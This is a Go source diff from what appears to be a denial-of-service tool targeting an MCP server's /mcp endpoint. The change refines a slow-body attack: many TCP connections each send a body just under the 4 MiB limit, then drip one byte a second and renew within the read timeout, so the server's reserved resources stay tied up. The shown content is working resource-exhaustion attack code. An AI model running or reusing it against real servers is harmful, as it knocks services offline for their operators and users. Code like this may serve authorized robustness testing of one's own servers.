@@ -454,10 +454,12 @@ func (a *attack) listenStreams(n int, path, token string) {
 	}
 }
 
-// slowBodies sends n bodies of just under 4 MiB each at once, slowly (all
-// of each within 25 s), renewing them every 25 s.
+// slowBodies sends n bodies of just under 4 MiB each (the limit less one
+// byte) at once: all of each but its last bytes at once, then a byte a
+// second, so that they hold what the server reserved for them; renewed
+// every 25 s (within the read timeout).
 func (a *attack) slowBodies(n int) {
-	const size = 4<<20 - 64
+	const size = 4<<20 - 1
 	for range n {
 		a.loop(func(int) {
 			conn, err := attacker.DialContext(a.ctx, "tcp", a.host)
@@ -470,23 +472,23 @@ func (a *attack) slowBodies(n int) {
 			defer cancel()
 			stop := context.AfterFunc(renew, func() { conn.Close() })
 			defer stop()
-			fmt.Fprintf(conn, "POST /mcp HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nAccept: application/json, text/event-stream\r\nContent-Length: %d\r\n\r\n{\"pad\":\"", a.host, size)
+			fmt.Fprintf(conn, "POST /mcp HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nAccept: application/json, text/event-stream\r\nContent-Length: %d\r\n\r\n", a.host, size)
 			answered := make(chan string, 1)
 			go func() { answered <- status(bufio.NewReader(conn)) }()
-			piece := bytes.Repeat([]byte("x"), 64<<10)
-			for sent := 0; sent+len(piece) < size && renew.Err() == nil; sent += len(piece) {
-				if _, err := conn.Write(piece); err != nil {
-					break
-				}
+			if _, err := conn.Write(bytes.Repeat([]byte("x"), size-64)); err != nil {
+				return
+			}
+			for renew.Err() == nil {
 				select {
 				case code := <-answered:
 					a.count("body " + code)
+					<-renew.Done()
 					return
 				case <-renew.Done():
-				case <-time.After(25 * time.Second / (size / (64 << 10))): // the drip
+				case <-time.After(time.Second): // the drip
+					conn.Write([]byte("x"))
 				}
 			}
-			<-renew.Done()
 			a.count("body renewed")
 		})
 	}
